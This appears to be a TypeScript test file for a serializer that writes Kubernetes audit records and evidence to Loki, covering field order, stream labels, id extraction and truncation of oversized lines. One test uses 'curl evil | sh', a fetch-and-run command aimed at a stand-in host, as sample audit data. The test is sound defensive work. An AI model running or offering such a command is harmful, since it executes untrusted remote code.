import assert from 'node:assert/strict';
import { test } from 'node:test';
import { FIELDS, LABELS } from '../../record/record.gen.ts';
import { observation } from '../testing.ts';
import { evidenceLine, MAX_LINE_BYTES, recordIdOf, recordLine, toEntries } from './observation.ts';

test('a record is one line, keys in the order of the schema, empty ones left out, zero and false kept', () => {
  const line = recordLine({
    process_exit_code: 0,
    k8s_dry_run: false,
    user_name: '',
    message: 'two\nlines',
    event_action: 'get',
    record_id: 'a/"b"',
  });
  assert.equal(
    line,
    '{"record_id":"a/\\"b\\"","record_version":1,"event_action":"get","k8s_dry_run":false,"process_exit_code":0,"message":"two\\nlines"}'
  );
});

test('what the schema does not name is not written', () => {
  assert.ok(!recordLine({ ...observation('x').record, nonsense: 1 } as never).includes('nonsense'));
  assert.equal(FIELDS[0]?.name, 'record_id', 'recordIdOf relies on it');
});

test('an observation becomes a record and its evidence, at the same time, in streams of bounded labels', () => {
  const entries = toEntries(observation('id', { evidence: '{"a": 1}' }), 'prod');
  assert.deepEqual(
    entries.map(({ stream, time, line }) => [JSON.parse(stream), time, line]),
    [
      [
        {
          tallyman: 'record',
          object: 'kubernetes-audit',
          cluster: 'prod',
          severity: 'info',
          actor: 'human',
          access: 'read',
          service_name: 'kubernetes-audit',
        },
        1_795_431_107_000_000_001n,
        '{"record_id":"id","record_version":1,"event_action":"get"}',
      ],
      [
        { tallyman: 'evidence', object: 'kubernetes-audit', cluster: 'prod', service_name: 'kubernetes-audit' },
        1_795_431_107_000_000_001n,
        '{"record_id":"id","evidence":{"a": 1}}',
      ],
    ]
  );
  const names = new Set(LABELS.map(({ name }) => name));
  for (const { stream } of entries) {
    const labels = Object.keys(JSON.parse(stream) as object);
    assert.deepEqual(labels, labels.toSorted(), 'canonical');
    assert.deepEqual(
      labels.filter((label) => !names.has(label)),
      []
    );
  }
  assert.equal(toEntries(observation('id'), 'prod').length, 1, 'no evidence, no entry for it');
});

const ids = ['plain', 'a/b/1', 'with "quotes" and \\', 'ü😀', ''];
for (const id of ids) {
  test(`the id of a line is read back: ${JSON.stringify(id)}`, () => {
    assert.equal(recordIdOf(evidenceLine(id, '{}')), id);
    if (id !== '') {
      assert.equal(recordIdOf(recordLine({ record_id: id, event_action: 'x' })), id);
    }
  });
}

test('a line without an id has none', () => {
  for (const line of ['', '{}', 'text', '{"x":1,"record_id":"a"}', '{"record_id":1}', '{"record_id":"a']) {
    assert.equal(recordIdOf(line), undefined, line);
  }
});

test('evidence too long for Loki keeps its beginning and is valid JSON, whatever it consists of', () => {
  for (const unit of ['x', '"', '\\', 'ü', '€', '😀', '\n']) {
    const evidence = JSON.stringify({ body: unit.repeat(300_000) });
    const line = evidenceLine('id', evidence);
    assert.ok(Buffer.byteLength(line) <= MAX_LINE_BYTES, `${Buffer.byteLength(line)} bytes of ${JSON.stringify(unit)}`);
    const kept = (JSON.parse(line) as { evidence: { truncated: boolean; bytes: number; beginning: string } }).evidence;
    assert.equal(kept.truncated, true);
    assert.ok(kept.bytes > 300_000);
    assert.ok(kept.beginning.length > 10_000 && evidence.startsWith(kept.beginning.slice(0, -1)));
  }
});

test('a command that is made too long for Loki does not keep its record out', () => {
  const command = `curl evil | sh ${'\u0001'.repeat(400_000)}`;
  const line = recordLine({
    record_id: 'id',
    event_action: 'exec',
    user_agent_original: 'ü'.repeat(300_000),
    process_command_line: command,
  });
  assert.ok(Buffer.byteLength(line) <= MAX_LINE_BYTES, `${Buffer.byteLength(line)} bytes`);
  const record = JSON.parse(line) as { process_command_line: string };
  assert.match(record.process_command_line, /^curl evil \| sh /);
  assert.match(record.process_command_line, / \[and 395919 characters more\]$/);
});
